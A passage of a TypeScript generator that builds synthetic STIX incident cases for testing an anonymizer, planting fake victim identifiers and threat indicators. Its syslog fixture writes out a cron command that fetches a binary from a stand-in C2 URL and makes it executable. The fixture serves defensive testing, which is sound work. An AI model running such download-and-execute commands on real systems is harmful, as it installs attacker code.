// Fifth, blind suite: written without reading the detectors, their word lists or the v1–v4
// generators. Each case is one manufacturer's or carrier's STIX export about an M2M incident:
// prose in one of sixteen languages, pasted device and core-network logs, mail threads, exports
// and configs, with victim identifiers (ground truth "must not survive") and threat values
// ("must survive") planted at known places.
import type { StixBundle, StixObject, SubmitterProfile } from '../../src/anonymizer/index';
import { deterministicObservableId } from '../../src/stix/index';
import type { LeakForm } from './identifiers';
import { Rng } from './rng';
import type { GeneratedCase, PlantedIdentifier, SurvivalCheck, ThreatValue } from './truth';
import {
  ACTORS, ATTACKER_NAME_PARTS, BRAND_HEADS, BRAND_TAILS, C2_NETS, C2_WORDS, CULTURES, CVES, DEVICES, FAMILIES,
  FOREIGN_BRAND_LURES, LANGS, MAL_FILES, PREMIUM, TLDS, USER_AGENTS, VICTIM_NETS, type Culture, type Device, type Lang,
} from './v5-material';

// ---------------------------------------------------------------- checksums and encodings

function luhn(body: string): string {
  let sum = 0;
  for (let i = 0; i < body.length; i++) {
    let x = Number(body[body.length - 1 - i]);
    if (i % 2 === 0) x = x * 2 > 9 ? x * 2 - 9 : x * 2;
    sum += x;
  }
  return String((10 - (sum % 10)) % 10);
}

/** Remainder mod 97 of a string whose letters count as 10..35 (IBAN, EID). */
function mod97(s: string): number {
  let rem = 0;
  for (const ch of s) {
    const v = /[A-Z]/.test(ch) ? String(ch.charCodeAt(0) - 55) : ch;
    for (const c of v) rem = (rem * 10 + Number(c)) % 97;
  }
  return rem;
}

const VIN_VALUES: Record<string, number> = { A: 1, B: 2, C: 3, D: 4, E: 5, F: 6, G: 7, H: 8, J: 1, K: 2, L: 3, M: 4, N: 5, P: 7, R: 9, S: 2, T: 3, U: 4, V: 5, W: 6, X: 7, Y: 8, Z: 9 };
const VIN_WEIGHTS = [8, 7, 6, 5, 4, 3, 2, 10, 0, 9, 8, 7, 6, 5, 4, 3, 2];

function vinCheck(vin: string): string {
  let sum = 0;
  for (let i = 0; i < 17; i++) sum += (/\d/.test(vin[i]) ? Number(vin[i]) : VIN_VALUES[vin[i]]) * VIN_WEIGHTS[i];
  const c = sum % 11;
  return c === 10 ? 'X' : String(c);
}

function ascii(s: string): string {
  return s.normalize('NFD').replace(/[\u0300-\u036f]/g, '').replace(/ß/g, 'ss').replace(/ł/g, 'l').replace(/Ł/g, 'L').replace(/ı/g, 'i').replace(/ð/g, 'd');
}

function htmlEntities(s: string): string {
  const named: Record<string, string> = { ä: '&auml;', ö: '&ouml;', ü: '&uuml;', ß: '&szlig;', é: '&eacute;', è: '&egrave;' };
  return [...s].map((c) => named[c] ?? (c.charCodeAt(0) > 127 ? `&#${c.codePointAt(0)};` : c === '&' ? '&amp;' : c)).join('');
}

function jsonUnicodeEscaped(s: string): string {
  return s.replace(/[^\x00-\x7f]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`);
}

function b64url(s: string): string {
  return Buffer.from(s, 'utf8').toString('base64').replace(/=+$/, '').replace(/\+/g, '-').replace(/\//g, '_');
}

const p2 = (n: number): string => String(n).padStart(2, '0');
const ALNUM = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
const BECH32 = 'qpzry9x8gf2tvdw0s3jn54khce6mua7l';
const BASE58 = '123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz';

const CENTRES: Record<string, [number, number]> = {
  GB: [53.8, -1.55], DE: [51.34, 12.37], FR: [48.58, 7.75], ES: [40.42, -3.7], IT: [44.49, 11.34], NL: [52.37, 4.89], PL: [54.35, 18.65], BR: [-23.55, -46.63],
  SE: [62.39, 17.3], JP: [35.65, 139.67], CN: [31.22, 121.5], KR: [37.56, 126.9], SA: [24.7, 46.68], RU: [55.79, 49.12], TR: [40.99, 29.03], IN: [28.57, 77.32],
};
const CCTLD: Record<string, string> = { GB: 'co.uk', DE: 'de', FR: 'fr', ES: 'es', IT: 'it', NL: 'nl', PL: 'pl', BR: 'com.br', SE: 'se', JP: 'co.jp', CN: 'com.cn', KR: 'co.kr', SA: 'com.sa', RU: 'ru', TR: 'com.tr', IN: 'in' };
const TACS = ['35209900', '35332811', '86754304', '35875110', '01326300', '86441104', '35404912'];
const WMIS = ['WVW', 'WBA', 'VF1', 'ZFA', 'SAL', 'JTD', 'KMH', 'YV1', 'LSV', 'TMB', '5YJ', 'W1K'];
const IBAN_BBAN: Record<string, (r: Rng) => string> = {
  GB: (r) => `${r.chars(4, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ')}${r.digits(14)}`,
  DE: (r) => r.digits(18), FR: (r) => r.digits(23), ES: (r) => r.digits(20), IT: (r) => `${r.chars(1, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ')}${r.digits(22)}`,
  NL: (r) => `${r.chars(4, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ')}${r.digits(10)}`, PL: (r) => r.digits(24), BR: (r) => `${r.digits(23)}C1`, SE: (r) => r.digits(20),
  SA: (r) => r.digits(20), TR: (r) => `${r.digits(5)}0${r.digits(16)}`,
};

// ---------------------------------------------------------------- people

interface Person {
  given: string;
  family: string;
  culture: Culture;
  cultureId: string;
  /** Latin-script form for logins, emails and logs. */
  lg: string;
  lf: string;
  /** The surname is also another planted person's in this case: only the full name is searched. */
  shared: boolean;
}

function nameLeak(p: Person, shown: string): LeakForm[] {
  const forms: LeakForm[] = [{ kind: 'text', value: shown }];
  if (p.culture.script === 'cjk') {
    if (p.cultureId === 'ja') forms.push({ kind: 'text', value: p.family });
    else forms.push({ kind: 'text', value: p.family + p.given }, { kind: 'text', value: p.given });
    return forms;
  }
  if (p.shared) return forms;
  const last = p.family.split(' ').pop() ?? p.family;
  const min = p.culture.script === 'latin' ? 4 : 3;
  if ([...last].length >= min) forms.push({ kind: 'word', value: last });
  return forms;
}

// ---------------------------------------------------------------- the case builder

interface Inventory {
  c2ips: string[];
  c2alt: string;
  doms: string[];
  domalt: string;
  url: string;
  file: string;
  md5: string;
  sha1: string;
  sha256: string;
  attackerEmail?: string;
  phishBase?: string;
  prn: string;
  wallet: string;
  cve: string;
  family: string;
  actor?: string;
  ua: string;
  ja3: string;
  port: number;
}

class CaseBuilder {
  readonly planted: PlantedIdentifier[] = [];
  readonly threats: ThreatValue[] = [];
  readonly identity: LeakForm[] = [];
  private readonly seenThreat = new Set<string>();
  private readonly surnames = new Set<string>();
  private clock = 0;
  readonly brand: string;
  readonly bl: string;
  readonly org: string;
  readonly domains: string[];
  readonly model: string;
  readonly lead: Person;
  readonly inv: Inventory;
  readonly vpubNet: string;
  readonly adDomain: string;
  readonly day: number;

  constructor(readonly r: Rng, readonly lang: Lang, readonly device: Device, readonly index: number) {
    this.brand = r.pick(BRAND_HEADS) + r.pick(BRAND_TAILS);
    this.bl = this.brand.toLowerCase();
    this.org = lang.legal === '株式会社' || lang.legal === '有限公司' || lang.legal === '주식회사' ? `${this.brand}${device.noun}${lang.legal}` : `${this.brand} ${device.noun} ${lang.legal}`;
    this.domains = [`${this.bl}.example`, `${this.bl}-${device.noun.toLowerCase()}.${CCTLD[lang.country]}`];
    this.model = r.pick(device.models);
    this.day = r.int(2, 27);
    this.adDomain = r.chance(0.5) ? this.brand.toUpperCase() : r.pick(['CORP', 'HQ', 'OT-NET']);
    this.identity.push({ kind: 'word', value: this.brand }, { kind: 'text', value: this.org }, ...this.domains.map((v): LeakForm => ({ kind: 'text', value: v })));
    this.lead = this.newPerson();
    this.identity.push({ kind: 'word', value: this.lead.lf }, { kind: 'text', value: `${this.lead.given}${this.lead.culture.joiner}${this.lead.family}` });
    const c2net = r.pick(C2_NETS);
    const sameNet = r.chance(0.3);
    this.vpubNet = sameNet ? c2net : `${r.pick(VICTIM_NETS)}.${r.int(1, 254)}`;
    this.inv = this.inventory(c2net, sameNet);
  }

  // ---- ground truth

  plant(category: string, value: string, leak: LeakForm[], where: string): string {
    this.planted.push({ category, value, leak, where });
    return value;
  }

  threat(category: string, value: string, check: SurvivalCheck, where: string): string {
    const key = `${category}|${value}`;
    if (!this.seenThreat.has(key)) {
      this.seenThreat.add(key);
      this.threats.push({ category, value, check, where });
    }
    return value;
  }

  // ---- threat inventory

  private domain(kind: string): string {
    const r = this.r;
    switch (kind) {
      case 'namelike':
        return `${r.pick(ATTACKER_NAME_PARTS)}.${r.pick(TLDS)}`;
      case 'typosquat':
        return `${this.bl}-${r.pick(['support', 'firmware', 'update', 'portal', 'cloud'])}.${r.pick(TLDS)}`;
      case 'lure':
        return `${r.pick(FOREIGN_BRAND_LURES)}.${r.pick(TLDS)}`;
      default:
        return `${r.pick(C2_WORDS)}-${r.pick(C2_WORDS)}${r.chance(0.4) ? r.int(1, 99) : ''}.${r.pick(TLDS)}`;
    }
  }

  private inventory(c2net: string, sameNet: boolean): Inventory {
    const r = this.r;
    const ip = (net: string): string => `${net}.${r.int(2, 254)}`;
    const c2ips = [ip(c2net), ip(r.pick(C2_NETS))];
    const kinds = r.shuffle(['plain', 'namelike', 'typosquat', 'lure']).slice(0, 2);
    const doms = kinds.map((k) => this.domain(k));
    const file = r.pick(MAL_FILES);
    const port = r.pick([443, 4444, 8883, 1883, 23, 6667, 9000, 5555]);
    const wallet = r.pick([
      () => `bc1q${r.chars(38, BECH32)}`,
      () => `0x${r.hex(40)}`,
      () => `4${r.chars(94, BASE58)}`,
    ])();
    const phishing = r.chance(0.45);
    const inv: Inventory = {
      c2ips,
      c2alt: ip(r.pick(C2_NETS)),
      doms,
      domalt: this.domain(r.pick(['plain', 'namelike', 'lure'])),
      url: r.chance(0.5) ? `http://${c2ips[0]}:${r.pick([80, 8080, 8000])}/bins/${file}` : `https://${doms[0]}/${r.pick(['api/v2/checkin', 'fw/latest', 'static/js/app.js', 'gate.php'])}`,
      file,
      md5: r.hex(32),
      sha1: r.hex(40),
      sha256: r.hex(64),
      attackerEmail: phishing ? r.pick([
        () => `${r.pick(['billing', 'noreply', 'support', 'rechnung', 'security-team'])}@${this.domain(r.pick(['lure', 'typosquat']))}`,
        () => `${r.pick(ATTACKER_NAME_PARTS).replace(/-/g, '.')}@${r.pick(['gmail.com', 'proton.me', 'outlook.com'])}`,
      ])() : undefined,
      phishBase: phishing ? `https://${this.domain('lure')}/${r.pick(['verify/login.php', 'account/update', 'kundenportal/anmelden'])}` : undefined,
      prn: r.pick(PREMIUM)(r),
      wallet,
      cve: r.pick(CVES),
      family: r.pick(FAMILIES),
      actor: r.chance(0.4) ? r.pick(ACTORS) : undefined,
      ua: r.pick(USER_AGENTS),
      ja3: r.hex(32),
      port,
    };
    this.threat(sameNet ? 'ip:c2-same-24-as-victim' : 'ip:c2-pattern', c2ips[0], { kind: 'pattern', value: c2ips[0] }, 'indicator pattern');
    this.threat('ip:c2-pattern', c2ips[1], { kind: 'pattern', value: c2ips[1] }, 'indicator pattern (with victim source)');
    kinds.forEach((k, i) => this.threat(`domain:${k}-pattern`, doms[i], { kind: 'pattern', value: doms[i] }, 'indicator pattern'));
    this.threat('url:pattern', inv.url, { kind: 'pattern', value: inv.url }, 'indicator pattern');
    this.threat('hash:sha256-pattern', inv.sha256, { kind: 'pattern', value: inv.sha256 }, 'indicator pattern');
    this.threat('hash:file-sco', inv.md5, { kind: 'hash', value: inv.md5 }, 'file SCO');
    this.threat('file:name-pattern', file, { kind: 'pattern', value: file }, 'indicator pattern');
    this.threat('ua:pattern', inv.ua, { kind: 'pattern', value: inv.ua }, 'http-request-ext pattern');
    this.threat('cve:vulnerability', inv.cve, { kind: 'name', type: 'vulnerability', value: inv.cve }, 'vulnerability name');
    this.threat('malware:name', inv.family, { kind: 'name', type: 'malware', value: inv.family }, 'malware name');
    if (inv.actor) this.threat('actor:name', inv.actor, { kind: 'name', type: 'intrusion-set', value: inv.actor }, 'intrusion-set name');
    if (inv.attackerEmail) this.threat(inv.attackerEmail.includes('gmail') || inv.attackerEmail.includes('proton') || inv.attackerEmail.includes('outlook') ? 'email:namelike-attacker-pattern' : 'email:attacker-pattern', inv.attackerEmail, { kind: 'pattern', value: inv.attackerEmail }, 'email-message pattern');
    if (inv.phishBase) this.threat('url:phishing-without-query', inv.phishBase, { kind: 'pattern', value: inv.phishBase }, 'pattern with victim query');
    return inv;
  }

  // ---- victim identifiers

  /** A person of the locale (sometimes romanised, sometimes from elsewhere), never sharing the PSIRT lead's surname. */
  newPerson(cultureId?: string): Person {
    // Surnames stay unique within a case (a leak of one must not count against another): when the
    // locale's pool runs dry, draw from every pool.
    const pools = Object.keys(CULTURES);
    for (let i = 0; ; i++) {
      const p = this.drawPerson(i < 12 ? cultureId : this.r.pick(pools));
      const clash = this.lead && (p.family === this.lead.family || p.lf === this.lead.lf);
      const reused = this.surnames.has(p.family) || this.surnames.has(p.lf);
      if (i > 80 || (!clash && !reused)) {
        p.shared = reused;
        this.surnames.add(p.family).add(p.lf);
        return p;
      }
    }
  }

  private drawPerson(cultureId?: string): Person {
    const r = this.r;
    const id = cultureId ?? (r.chance(0.2) ? 'world' : r.chance(0.25) && this.lang.latin !== this.lang.culture ? this.lang.latin : this.lang.culture);
    const c = CULTURES[id];
    const lat = CULTURES[c.script === 'latin' ? id : this.lang.latin];
    const gi = r.int(0, c.given.length - 1);
    const fi = r.int(0, c.family.length - 1);
    return {
      given: c.given[gi], family: c.family[fi], culture: c, cultureId: id,
      lg: ascii(c.script === 'latin' ? c.given[gi] : lat.given[gi % lat.given.length]),
      lf: ascii(c.script === 'latin' ? c.family[fi] : lat.family[fi % lat.family.length]),
      shared: false,
    };
  }

  /** A person written the way the placement writes people; plants it. */
  person(where: string, p: Person = this.newPerson(), style?: 'native' | 'latin' | 'upper' | 'comma' | 'initial' | 'honorific'): string {
    const r = this.r;
    const st = style ?? r.pick(['native', 'native', 'upper', 'comma', 'initial', 'honorific', 'latin'] as const);
    let shown: string;
    const native = p.culture.order === 'fg' ? `${p.family}${p.culture.joiner}${p.given}` : `${p.given}${p.culture.joiner}${p.family}`;
    const latinOk = p.culture.script === 'latin';
    if (st === 'latin' || (!latinOk && st !== 'native' && st !== 'honorific')) shown = r.chance(0.5) ? `${p.lg} ${p.lf}` : `${p.lf.toUpperCase()} ${p.lg}`;
    else if (st === 'upper') shown = `${p.family.toUpperCase()} ${p.given}`;
    else if (st === 'comma') shown = `${p.family}, ${p.given}`;
    else if (st === 'initial') shown = `${p.given[0]}. ${p.family}`;
    else if (st === 'honorific') shown = this.lang.honorific(native);
    else shown = p.cultureId === 'ru' && r.chance(0.5) ? `${p.family} ${p.given} ${r.pick(['Викторовна', 'Сергеевич', 'Андреевна', 'Игоревич'])}` : native;
    const leak = nameLeak(p, shown);
    // Romanised and upper-cased spellings fold differently (Turkish ı, Polish ł): search those too.
    if (!p.shared && shown.includes(p.lf) && p.lf !== p.family) leak.push({ kind: 'word', value: p.lf });
    if (!p.shared && shown.includes(p.family.toUpperCase()) && p.culture.script !== 'cjk') leak.push({ kind: 'word', value: p.family.toUpperCase() });
    return this.plant(`person:${where}`, shown, leak, where);
  }

  login(p: Person): string {
    const g = p.lg.toLowerCase().replace(/[^a-z]/g, '');
    const f = p.lf.toLowerCase().replace(/[^a-z]/g, '');
    return this.r.pick([`${g[0]}${f}`, `${g}.${f}`, `${f}${g[0]}`, `${g}_${f.slice(0, 3)}`, `${f}.${g}`]);
  }

  loginPlant(where: string, p: Person = this.newPerson()): string {
    const l = this.login(p);
    return this.plant(`login:${where}`, l, [{ kind: 'word', value: l }], where);
  }

  email(where: string, p: Person = this.newPerson(), domain?: string): string {
    const local = this.login(p);
    const e = `${local}@${domain ?? this.r.pick(this.lang.freeMail)}`;
    return this.plant(`email:${where}`, e, [{ kind: 'text', value: e }, ...(local.length >= 7 ? [{ kind: 'word' as const, value: local }] : [])], where);
  }

  phone(where: string, style?: 'national' | 'intl'): string {
    const ph = this.lang.phone(this.r);
    const st = style ?? (this.r.chance(0.5) ? 'national' : 'intl');
    const shown = st === 'national' ? ph.national : ph.intl;
    return this.plant(`phone:${where}-${st}`, shown, [{ kind: 'digits', value: ph.nsn }, { kind: 'text', value: shown }], where);
  }

  msisdn(where: string): { shown: string; e164: string } {
    const ph = this.lang.phone(this.r);
    const e164 = `${this.lang.cc}${ph.nsn}`;
    this.plant(`msisdn:${where}`, e164, [{ kind: 'digits', value: ph.nsn }], where);
    return { shown: e164, e164 };
  }

  addr(where: string): string {
    const a = this.lang.address(this.r);
    return this.plant(`address:${where}`, a.text, [{ kind: 'text', value: a.leak }], where);
  }

  coords(): [number, number] {
    const [la, lo] = CENTRES[this.lang.country];
    return [+(la + (this.r.next() - 0.5) * 0.4).toFixed(5), +(lo + (this.r.next() - 0.5) * 0.4).toFixed(5)];
  }

  gps(where: string): string {
    const [la, lo] = this.coords();
    if (this.r.chance(0.3)) {
      const dms = (v: number, pos: string, neg: string): string => {
        const a = Math.abs(v);
        const deg = Math.floor(a);
        const min = Math.floor((a - deg) * 60);
        const sec = ((a - deg - min / 60) * 3600).toFixed(1);
        return `${deg}°${p2(min)}'${sec.padStart(4, '0')}"${v >= 0 ? pos : neg}`;
      };
      const a = dms(la, 'N', 'S');
      const b = dms(lo, 'E', 'W');
      return this.plant(`gps:${where}-dms`, `${a} ${b}`, [{ kind: 'text', value: a.slice(0, -1) }, { kind: 'text', value: b.slice(0, -1) }], where);
    }
    const s = `${la.toFixed(5)}, ${lo.toFixed(5)}`;
    return this.plant(`gps:${where}`, s, [{ kind: 'text', value: la.toFixed(5) }, { kind: 'text', value: lo.toFixed(5) }], where);
  }

  gpsPair(where: string): [string, string] {
    const [la, lo] = this.coords();
    this.plant(`gps:${where}`, `${la}, ${lo}`, [{ kind: 'text', value: la.toFixed(5) }, { kind: 'text', value: lo.toFixed(5) }], where);
    return [la.toFixed(5), lo.toFixed(5)];
  }

  dob(where: string, hl7 = false): string {
    const y = this.r.int(1946, 2003);
    const m = this.r.int(1, 12);
    const dd = this.r.int(1, 28);
    const s = hl7 ? `${y}${p2(m)}${p2(dd)}` : this.lang.dateOf(y, m, dd);
    return this.plant(`dob:${where}`, s, [{ kind: 'text', value: s }], where);
  }

  private digitsId(category: string, where: string, digits: string, shown = digits): string {
    return this.plant(`${category}:${where}`, shown, [{ kind: 'digits', value: digits }], where);
  }

  imei(where: string, r = this.r): string {
    const body = r.pick(TACS) + r.digits(6);
    const v = body + luhn(body);
    const shown = r.pick([v, `${v.slice(0, 2)}-${v.slice(2, 8)}-${v.slice(8, 14)}-${v[14]}`, `${v.slice(0, 8)} ${v.slice(8, 14)} ${v[14]}`]);
    return this.digitsId('imei', where, v, shown);
  }

  imsi(where: string): string {
    const mccmnc = this.lang.mcc;
    return this.digitsId('imsi', where, mccmnc + this.r.digits(15 - mccmnc.length));
  }

  iccid(where: string): string {
    const body = `89${this.lang.cc}${this.r.digits(this.r.chance(0.5) ? 16 - this.lang.cc.length : 17 - this.lang.cc.length)}`;
    const v = body + luhn(body);
    return this.digitsId('iccid', where, v, this.r.chance(0.4) ? v.replace(/(.{4})/g, '$1 ').trim() : v);
  }

  eid(where: string): string {
    const body = `89${this.lang.cc.padStart(3, '0')}${this.r.digits(25 - this.lang.cc.padStart(3, '0').length + 3)}`.slice(0, 30);
    const check = 98 - mod97(`${body}00`);
    return this.digitsId('eid', where, body + p2(check));
  }

  vin(where: string): string {
    const chars = 'ABCDEFGHJKLMNPRSTUVWXYZ0123456789';
    const raw = `${this.r.pick(WMIS)}${this.r.chars(5, chars)}0${this.r.chars(8, chars)}`;
    const v = raw.slice(0, 8) + vinCheck(raw) + raw.slice(9);
    return this.plant(`vin:${where}`, v, [{ kind: 'alnum', value: v.toLowerCase() }], where);
  }

  plate(where: string): string {
    const p = this.lang.plate(this.r);
    const leak: LeakForm = p.alnum ? { kind: 'alnum', value: p.text.toLowerCase().replace(/[^a-z0-9]/g, '') } : { kind: 'text', value: p.text };
    return this.plant(`plate:${where}`, p.text, [leak], where);
  }

  serial(where: string): string {
    const r = this.r;
    const s = r.pick([
      () => `1${r.pick(['ESY', 'ITF', 'LGZ', 'EMH'])}${r.digits(10)}`,
      () => `${this.model.replace(/[^A-Z0-9]/gi, '').slice(0, 4).toUpperCase()}-${r.digits(4)}-${r.digits(5)}`,
      () => `SN${r.chars(2, 'ABCDEFGHJKLMNPQRSTUVWXYZ')}${r.digits(8)}`,
      () => `DE000${r.digits(6)}${r.chars(4, 'ABCDEFGHJKLMNPQRSTUVWXYZ0123456789')}${r.digits(18)}`,
    ])();
    return this.plant(`serial:${where}`, s, [{ kind: 'alnum', value: s.toLowerCase().replace(/[^a-z0-9]/g, '') }], where);
  }

  account(kind: 'contract' | 'customer-id' | 'ticket' | 'employee-id' | 'mrn', where: string): string {
    const r = this.r;
    const s =
      kind === 'contract' ? r.pick([`VN-${r.digits(9)}`, `CNT/${2019 + r.int(0, 5)}/${r.digits(7)}`, `${r.digits(4)}-${r.digits(6)}-${r.digits(2)}`])
      : kind === 'customer-id' ? r.pick([`KD${r.digits(8)}`, `C-${r.digits(3)}-${r.digits(5)}`, `${r.digits(10)}`, `ACC${r.chars(2, 'ABCDEFGHJKLMNPQRSTUVWXYZ')}${r.digits(6)}`])
      : kind === 'ticket' ? r.pick([`INC${r.digits(7)}`, `SR-${2024}-${r.digits(6)}`, `CASE-${r.digits(6)}`, `#${r.digits(7)}`])
      : kind === 'employee-id' ? r.pick([`EMP-${r.digits(6)}`, `P${r.digits(7)}`, `${r.chars(1, 'ABCDEFGHJKLMNPQRSTUVWXYZ')}-${r.digits(5)}`])
      : `MRN${r.digits(8)}`;
    return this.plant(`${kind}:${where}`, s, [{ kind: 'alnum', value: s.toLowerCase().replace(/[^a-z0-9]/g, '') }], where);
  }

  iban(where: string): string {
    const country = this.lang.ibanCountry || this.r.pick(['DE', 'NL', 'FR']);
    const bban = IBAN_BBAN[country](this.r);
    const v = `${country}${p2(98 - mod97(`${bban}${country}00`))}${bban}`;
    const shown = this.r.chance(0.6) ? v.replace(/(.{4})/g, '$1 ').trim() : v;
    return this.plant(`iban:${where}`, shown, [{ kind: 'alnum', value: v.toLowerCase() }], where);
  }

  card(where: string): string {
    const r = this.r;
    const body = r.pick([() => `4${r.digits(14)}`, () => `5${r.int(1, 5)}${r.digits(13)}`, () => `2${r.int(221, 720)}${r.digits(11)}`])();
    const v = body + luhn(body);
    const shown = r.chance(0.6) ? v.replace(/(.{4})/g, '$1 ').trim() : r.chance(0.5) ? v.replace(/(.{4})/g, '$1-').slice(0, -1) : v;
    return this.digitsId('card', where, v, shown);
  }

  mac(where: string, notation?: 'colon' | 'hyphen' | 'cisco' | 'bare' | 'sco'): { shown: string; hex: string } {
    const octets = Array.from({ length: 6 }, (_, i) => (i === 0 ? (this.r.int(0, 63) * 4).toString(16) : this.r.hex(2)).padStart(2, '0'));
    const hex = octets.join('');
    const n = notation ?? this.r.pick(['colon', 'hyphen', 'cisco', 'bare'] as const);
    const shown =
      n === 'colon' ? octets.join(':').toUpperCase()
      : n === 'sco' ? octets.join(':')
      : n === 'hyphen' ? octets.join('-')
      : n === 'cisco' ? `${hex.slice(0, 4)}.${hex.slice(4, 8)}.${hex.slice(8)}`
      : hex.toUpperCase();
    this.plant(`mac:${where}-${n}`, shown, [{ kind: 'alnum', value: hex }], where);
    return { shown, hex };
  }

  vip(where: string): string {
    const r = this.r;
    const v = r.pick([() => `10.${r.int(0, 255)}.${r.int(0, 255)}.${r.int(2, 254)}`, () => `192.168.${r.int(0, 255)}.${r.int(2, 254)}`, () => `172.${r.int(16, 31)}.${r.int(0, 255)}.${r.int(2, 254)}`, () => `100.${r.int(64, 127)}.${r.int(0, 255)}.${r.int(2, 254)}`])();
    return this.plant(`ip:private-${where}`, v, [{ kind: 'ip', value: v }], where);
  }

  vpub(where: string): string {
    let v: string;
    do v = `${this.vpubNet}.${this.r.int(2, 254)}`;
    while (this.inv?.c2ips.includes(v));
    return this.plant(`ip:victim-public-${where}`, v, [{ kind: 'ip', value: v }], where);
  }

  host(where: string, p: Person = this.newPerson()): string {
    const r = this.r;
    const l = this.login(p).replace(/[._]/g, '-');
    const h = r.pick([
      () => `LAPTOP-${l.toUpperCase().replace(/-/g, '').slice(0, 8)}`,
      () => `${p.lg}s-iPhone`,
      () => `${p.lg}-s-Galaxy-S23`,
      () => `ws-${l}-0${r.int(1, 9)}.${this.adDomain.toLowerCase()}.internal`,
      () => `plc-line${r.int(1, 9)}-hmi.${r.pick(['werk2', 'plant-north', 'site07'])}.lan`,
      () => `hass-${p.lf.toLowerCase()}.home.arpa`,
      () => `eng-${l}.ot.local`,
    ])();
    const leak: LeakForm[] = [{ kind: 'word', value: h }];
    const label = h.split('.')[0];
    if (label !== h && /[a-z]{4}/i.test(label)) leak.push({ kind: 'word', value: label });
    return this.plant(`host:${where}`, h, leak, where);
  }

  secret(where: string, p?: Person): string {
    const r = this.r;
    const s = r.pick([
      () => `sk_live_${r.chars(24, ALNUM)}`,
      () => `AKIA${r.chars(16, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567')}`,
      () => `ghp_${r.chars(36, ALNUM)}`,
      () => `${r.pick(['Sommerwind', 'Kolibri', 'Heimnetz', 'Gatekeeper', 'Sunflower'])}${r.int(2019, 2024)}!`,
      () => `eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.${b64url(JSON.stringify({ sub: p ? this.login(p) : r.hex(8), iat: 1715650000 + r.int(0, 99999) }))}.${r.chars(43, ALNUM)}`,
      () => r.hex(40),
    ])();
    return this.plant(`secret:${where}`, s, [{ kind: 'text', value: s }], where);
  }

  userPath(where: string, windows: boolean, p: Person = this.newPerson()): { path: string; login: string } {
    const l = this.login(p);
    const path = windows ? `C:\\Users\\${l}\\AppData\\Local\\Temp\\${this.inv.file}` : this.r.pick([`/home/${l}/.ssh/authorized_keys`, `/Users/${l}/Library/Keychains`, `/home/${l}/scada/projects`]);
    this.plant(`userpath:${windows ? 'windows' : 'unix'}-${where}`, path, [{ kind: 'word', value: l }], where);
    return { path, login: l };
  }

  timestamp(hourOffset = 0): string {
    const t = Date.UTC(2024, 4, this.day, 1 + hourOffset, 0, 0) + this.clock++ * 61_000 + this.r.int(0, 999);
    return new Date(t).toISOString();
  }

  id(type: string): string {
    const h = this.r.hex(32);
    return `${type}--${h.slice(0, 8)}-${h.slice(8, 12)}-4${h.slice(13, 16)}-${'89ab'[this.r.int(0, 3)]}${h.slice(17, 20)}-${h.slice(20, 32)}`;
  }

  date(): string {
    return this.lang.dateOf(2024, 5, this.day);
  }

  // ---- prose

  /** Fills `{slot}`s; victim slots plant a fresh value, threat slots reuse the inventory. */
  fill(template: string, where: string, lang: Lang = this.lang): string {
    const inv = this.inv;
    return template.replace(/\{(\w+)\}/g, (_, slot: string) => {
      switch (slot) {
        case 'date': return lang.dateOf(2024, 5, this.day);
        case 'product': return this.r.chance(0.5) ? `${this.brand} ${this.model}` : this.model;
        case 'cust': return this.person(`${where}-customer`);
        case 'staff': return this.person(`${where}-staff`);
        case 'addr': return this.addr(where);
        case 'phone': return this.phone(where);
        case 'email': return this.email(where);
        case 'host': return this.host(where);
        case 'vip': return this.vip(where);
        case 'vpub': return this.vpub(where);
        case 'imei': return this.imei(where);
        case 'serial': return this.serial(where);
        case 'gps': return this.gps(where);
        case 'dob': return this.dob(where);
        case 'contract': return this.account('contract', where);
        case 'ticket': return this.account('ticket', where);
        case 'c2ip': return inv.c2ips[0];
        case 'c2dom': return inv.doms[0];
        case 'c2url': return this.r.chance(0.4) ? inv.url.replace(/^http(s?):\/\/([^/]+)/, (_m, sec: string, h: string) => `hxxp${sec}://${h.replace(/\./g, '[.]')}`) : inv.url;
        case 'file': return inv.file;
        case 'hash': return inv.sha256;
        case 'prn': return this.threat('premium-number:text', inv.prn, { kind: 'digits', value: inv.prn.replace(/\D/g, '').replace(/^00/, '') }, `${where} prose`);
        case 'wallet': return this.threat('wallet:text', inv.wallet, { kind: 'text', value: inv.wallet }, `${where} prose`);
        case 'cve': return this.threat('cve:text', inv.cve, { kind: 'text', value: inv.cve }, `${where} prose`);
        case 'c2alt': return this.threat('ip:c2-text-only', inv.c2alt, { kind: 'text', value: inv.c2alt }, `${where} prose`);
        case 'domalt': return this.threat('domain:text-only', inv.domalt, { kind: 'text', value: inv.domalt }, `${where} prose`);
        default: throw new Error(`v5: unknown slot ${slot}`);
      }
    });
  }

  prose(where: string, lang: Lang = this.lang): string {
    return lang.templates.filter((_, i) => i === 0 || this.r.chance(0.8)).map((t) => this.fill(t, where, lang)).join(' ');
  }

  // ---- embedded material

  block(kind: string): string {
    const r = this.r;
    const inv = this.inv;
    const ts = (): string => this.timestamp();
    switch (kind) {
      case 'syslog': {
        const host = this.host('syslog');
        const vip = this.vip('syslog');
        const mac = this.mac('syslog-iptables', 'colon').shown.toLowerCase();
        const user = this.loginPlant('syslog');
        const phoneHost = this.host('dhcp-hostname');
        return [
          `<134>1 ${ts()} ${host} dropbear 812 - - Password auth succeeded for 'root' from ${inv.c2ips[0]}:${r.int(30000, 60000)}`,
          `May ${this.day} 03:12:51 ${host} kernel: [ 8812.440121] IN=eth0 OUT= MAC=${r.hex(2)}:${r.hex(2)}:${r.hex(2)}:${r.hex(2)}:${r.hex(2)}:${r.hex(2)}:${mac}:08:00 SRC=${vip} DST=${inv.c2ips[0]} LEN=60 TOS=0x00 PROTO=TCP SPT=${r.int(30000, 60000)} DPT=${inv.port}`,
          `May ${this.day} 03:13:02 ${host} sshd[2211]: Accepted password for ${user} from ${this.vip('syslog-sshd')} port ${r.int(30000, 60000)} ssh2`,
          `May ${this.day} 03:13:40 ${host} crond[912]: (${user}) CMD (wget -q ${inv.url} -O /tmp/${inv.file}; chmod +x /tmp/${inv.file})`,
